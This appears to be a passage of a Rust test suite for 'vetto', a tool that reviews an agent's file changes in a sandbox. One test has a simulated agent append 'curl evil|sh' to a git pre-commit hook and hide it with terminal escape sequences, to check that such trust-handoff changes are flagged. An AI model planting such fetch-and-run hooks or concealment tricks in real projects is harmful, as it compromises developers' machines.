    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(
        std::fs::read_to_string(f.proj.join("lib/x.txt")).expect("r"),
        "x\nagent\n"
    );
});

both!(review_refuses_write_roots_in_the_project, |f| {
    std::fs::create_dir_all(f.proj.join("build")).expect("mkdir");
    f.own(&f.proj);
    let build = f.proj.join("build").display().to_string();
    let o = f.run_sh(
        &["-q", "--project-access", "review", "--allow-write", &build],
        "touch build/ran",
    );
    assert!(!o.status.success());
    assert!(err(&o).contains("without review"), "{}", err(&o));
    assert!(!f.proj.join("build/ran").exists());
    assert!(sets(f).is_empty(), "{:?}", sets(f));
});

both!(diffs_cannot_hide_what_they_show, |f| {
    // The repository's own hooks directory (core.hooksPath) is a trust-handoff path.
    std::fs::create_dir_all(f.proj.join(".husky")).expect("mkdir");
    std::fs::write(f.proj.join(".husky/pre-commit"), "npm test\n").expect("w");
    sh(&format!(
        "git -c safe.directory='*' -C '{}' config core.hooksPath .husky",
        f.proj.display()
    ));
    f.own(&f.proj);
    let o = f.run_sh(
        REVIEW,
        "printf 'ok\\ncurl evil|sh\\r# tidy\\n\\033[1A\\033[2Kfine\\n' > note.txt \
         && echo 'curl evil|sh' >> .husky/pre-commit \
         && mkdir ci && ln -s ci .github",
    );
    let id = set_id(&err(&o));
    let e = err(&o);
    for p in [".husky/pre-commit", ".github"] {
        assert!(listed_as_handoff(&e, p), "{p}: {e}");
    }
    let o = f.vetto(&["changes", "diff", &id, "note.txt"]);
    let d = out(&o);
    assert!(
        !d.contains('\r') && !d.contains('\x1b'),
        "raw control characters: {d:?}"
    );
    assert!(d.contains("\\u{d}") && d.contains("\\u{1b}"), "{d}");
    assert!(d.contains("NOTE: note.txt holds control"), "{d}");
    let o = f.vetto(&["changes", "apply", &id]);
    assert_eq!(o.status.code(), Some(1), "{}", out(&o));
    let hook = std::fs::read_to_string(f.proj.join(".husky/pre-commit")).expect("r");
    assert_eq!(
        hook, "npm test\n",
        "the hook changed without --include-handoff"
    );
    assert!(f.proj.join(".github").symlink_metadata().is_err());
});

// A protected path that is a link in the project (`.vscode` -> `editor`) protects what it
// resolves to as well: a change there is a trust-handoff path of the set. The protected paths
// that are absent, or plain names that are no link, stand for themselves.
both!(a_protected_link_flags_what_it_resolves_to, |f| {
    std::fs::create_dir(f.proj.join("editor")).expect("mkdir");
    std::os::unix::fs::symlink("editor", f.proj.join(".vscode")).expect("ln");
    std::fs::create_dir(f.proj.join(".idea")).expect("mkdir");
    f.own(&f.proj);
    let o = f.run_sh(
        REVIEW,
        "echo '{}' > editor/settings.json && echo x > plain.txt",
    );
    assert!(o.status.success(), "{}", err(&o));
    let id = set_id(&err(&o));
    let v = meta(f, &id);
    let protected: Vec<&str> = v["protected"]
        .as_array()
        .expect("protected")
        .iter()
        .filter_map(|p| p.as_str())
        .collect();
    for p in [".vscode", "editor", ".idea", ".github/workflows"] {
        assert!(protected.contains(&p), "{p} not in {protected:?}");
    }
    let e = err(&o);
    assert!(listed_as_handoff(&e, "editor/settings.json"), "{e}");
    assert!(!e[handoff_section(&e)].contains("plain.txt"), "{e}");
});

both!(
    a_discarded_set_a_killed_vetto_left_is_swept_by_the_next_review,
    |f| {
        // A supervisor killed between taking an empty set out of the listing and removing it
        // leaves `.trash-<id>`: its lock free, its overlay work directory mode 000 as overlayfs
        // leaves it. The next review session removes it, and leaves one whose lock is held (its
        // owner is removing it) alone.
        let base = changes_dir(f);
        let o = f.run_sh(REVIEW, "true");
        assert!(o.status.success(), "{}", err(&o));
        assert!(settled(f), "{:?}", entries(f));
        let make = |name: &str| {
            let d = base.join(name);
            std::fs::create_dir_all(d.join("upper/sub")).expect("mkdir");
            std::fs::create_dir_all(d.join("work/work/index")).expect("mkdir");
            std::fs::write(d.join("upper/sub/f"), "x").expect("w");
            std::fs::write(d.join("meta.json"), "{}").expect("w");
            std::fs::write(d.join("lock"), "").expect("w");
            f.own(&d);
            std::fs::set_permissions(d.join("work/work"), std::fs::Permissions::from_mode(0o000))
                .expect("chmod");
            d
        };
        let dead = make(".trash-20260101-000000-aaaaaa");
        let held = make(".trash-20260101-000000-bbbbbb");
        let lock = std::fs::File::open(held.join("lock")).expect("open");
        let fd = std::os::fd::AsRawFd::as_raw_fd(&lock);
        // SAFETY: flock on a descriptor this test owns; no memory is involved.
        let locked = unsafe { libc::flock(fd, libc::LOCK_EX) };
        assert_eq!(locked, 0, "{}", std::io::Error::last_os_error());
        let o = f.run_sh(REVIEW, "true");
        assert!(o.status.success(), "{}", err(&o));
        assert!(!dead.exists(), "the dead owner's trash was not swept");
        assert!(held.join("upper/sub/f").exists(), "a held trash was swept");
        drop(lock);
        let o = f.run_sh(REVIEW, "true");
        assert!(o.status.success(), "{}", err(&o));
        assert!(
            !held.exists(),
            "a trash whose lock is free now was not swept"
        );
        assert!(settled(f), "{:?}", entries(f));
        assert!(entries(f).is_empty(), "{:?}", entries(f));
    }
);
